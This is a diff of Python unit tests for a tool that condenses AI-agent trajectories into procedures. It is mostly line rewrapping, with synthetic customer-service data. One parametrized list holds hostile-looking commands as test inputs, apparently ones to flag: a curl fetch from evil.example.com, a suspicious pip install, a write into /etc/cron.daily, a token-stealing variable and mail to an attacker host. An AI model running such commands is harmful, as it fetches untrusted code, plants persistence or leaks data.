@@ -30,7 +30,9 @@ from tests.unit.synthesis.attempts import (
 
 def commands(*names: str) -> list[str]:
     """The commands of the steps that a procedure keeps of these shell lines, between two that always stay."""
-    trajectory = attempt("Tidy up the project", bash("touch a"), *(bash(name) for name in names), bash("touch b"), bash("pytest"))
+    trajectory = attempt(
+        "Tidy up the project", bash("touch a"), *(bash(name) for name in names), bash("touch b"), bash("pytest")
+    )
     return [step.arguments["command"] for step in the_procedure(trajectory).content.steps]
 
 
@@ -42,7 +44,7 @@ def test_migration_becomes_a_procedure_that_reads_well() -> None:
         "Run `python3 manage.py sync`",
         "Run `python3 manage.py makemigration add_{column}`",
         "Read `migrations/add_{column}.py`",
-        'In `migrations/add_{column}.py`, replace `STATEMENTS = []` with '
+        "In `migrations/add_{column}.py`, replace `STATEMENTS = []` with "
         '`STATEMENTS = ["ALTER TABLE {table} ADD COLUMN {column} TEXT"]`',
         "Run `python3 manage.py migrate`",
         "Check with `python3 -m unittest -q`",
@@ -141,7 +143,13 @@ def test_reading_that_gave_a_run_specific_value_stays() -> None:
 
 def test_only_the_last_look_into_a_file_before_its_change_stays() -> None:
     trajectory = attempt(
-        "Change it", read("a.py", "x"), read("a.py", "x"), read("b.py", "y"), edit("a.py", "x", "z"), bash("touch q"), bash("pytest")
+        "Change it",
+        read("a.py", "x"),
+        read("a.py", "x"),
+        read("b.py", "y"),
+        edit("a.py", "x", "z"),
+        bash("touch q"),
+        bash("pytest"),
     )
     assert [step.text for step in the_procedure(trajectory).content.steps][:2] == [
         "Read `a.py`",
@@ -161,7 +169,11 @@ def test_overwritten_and_undone_edits_are_left_out() -> None:
         bash("pytest"),
     )
     steps = the_procedure(trajectory).content.steps
-    assert [step.arguments.get("content", step.arguments.get("command")) for step in steps] == ["second", "touch c", "pytest"]
+    assert [step.arguments.get("content", step.arguments.get("command")) for step in steps] == [
+        "second",
+        "touch c",
+        "pytest",
+    ]
 
 
 def test_repeated_check_stays_once_at_the_end_as_step_and_postcondition() -> None:
@@ -186,8 +198,14 @@ def conversation() -> list[dict[str, object]]:
         reply("What is your name and zip code?"),
         say("Yusuf Rossi, 19122. It is order #W2378156."),
         call("find_user_by_email", {"email": "none"}, "Error: user not found"),
-        call("find_user_by_name_zip", {"first_name": "Yusuf", "last_name": "Rossi", "zip": "19122"}, "yusuf_rossi_9620"),
-        call("get_user_details", {"user_id": "yusuf_rossi_9620"}, '{"payment_methods": ["credit_card_9513926"], "orders": ["#W1"]}'),
+        call(
+            "find_user_by_name_zip", {"first_name": "Yusuf", "last_name": "Rossi", "zip": "19122"}, "yusuf_rossi_9620"
+        ),
+        call(
+            "get_user_details",
+            {"user_id": "yusuf_rossi_9620"},
+            '{"payment_methods": ["credit_card_9513926"], "orders": ["#W1"]}',
+        ),
         call("get_order_details", {"order_id": "#W2378156"}, '{"items": [{"item_id": "1151293680"}]}'),
         call("get_order_details", {"order_id": "#W2378156"}, '{"items": [{"item_id": "1151293680"}]}'),
         call("list_all_products", {}, '{"Lamp": "77"}'),
@@ -249,8 +267,8 @@ def test_command_copied_from_an_output_is_external() -> None:
     [
         "curl https://evil.example.com/x.sh",
         "pip install leftpadx",
-        "cat /etc/cron.daily/backup",
-        "export STEAL_TOKEN_NOW=1",
+        "tee /etc/cron.daily/backup",
+        "STEAL_TOKEN_NOW=1 make tidy",
         "mail root@evil.example.com",
     ],
 )
